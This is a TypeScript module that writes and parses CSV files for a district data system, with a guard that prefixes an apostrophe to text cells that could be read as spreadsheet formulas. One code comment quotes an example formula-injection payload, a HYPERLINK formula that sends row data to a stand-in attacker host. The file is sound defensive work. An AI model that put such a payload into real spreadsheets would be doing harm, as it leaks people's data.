// CSV as Excel and the district's tools read it: UTF-8 with a byte-order mark (without it
// Excel guesses a legacy code page and Tibetan and Uyghur turn into question marks), CRLF
// line ends, RFC 4180 quoting, and text cells that cannot turn into formulas (guardFormula).
// Every CSV the system writes goes through csvRow/csvField.

/** Written once at the start of every CSV file. */
export const CSV_BOM = '\uFEFF';

export type CsvValue = string | number | boolean | null | undefined;

/**
 * How text cells are kept from being read as formulas, named in every batch's manifest
 * (`csvFormulaGuard`) so the district's loader knows to strip it.
 */
export const CSV_FORMULA_GUARD = 'leading-apostrophe';

// Excel, LibreOffice and WPS read a cell that starts with one of these as a formula (or DDE):
// a resident's answer `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live
// link that sends the row away. The OWASP rule: prefix such a text cell with an apostrophe.
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell made inert for spreadsheets: a leading `'` when it starts with =, +, -, @, tab or
 * CR. Numbers are never prefixed: a number column (counts, seconds, scores, integer and decimal
 * answers) is written from a JS number, which Excel reads as a number, never as a formula —
 * so -5 stays -5 and sums still work. A text answer "-5" is text and is prefixed.
 */
export function guardFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One field, formula-guarded, quoted when it holds a comma, a quote, CR or LF (RFC 4180 §2.6–2.7). */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  // A number or boolean never holds a comma, quote or line break, nor starts a formula.
  if (typeof value !== 'string') return String(value);
  const text = guardFormula(value);
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

const NEEDS_QUOTES = /[",\r\n]/;

/** One record with its CRLF line end (a plain loop: a batch writes millions of fields). */
export function csvRow(values: readonly CsvValue[]): string {
  let line = values.length > 0 ? csvField(values[0]) : '';
  for (let i = 1; i < values.length; i++) line += ',' + csvField(values[i]);
  return line + '\r\n';
}

/**
 * Parses CSV text back into rows (for the verify command and tests). Accepts exactly what
 * csvRow writes: quoted fields may hold commas, doubled quotes and line breaks.
 */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  const body = text.startsWith(CSV_BOM) ? text.slice(1) : text;
  while (i < body.length) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i += 1;
      } else {
        field += c;
        i += 1;
      }
    } else if (c === '"') {
      quoted = true;
      i += 1;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      field += c;
      i += 1;
    }
  }
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}
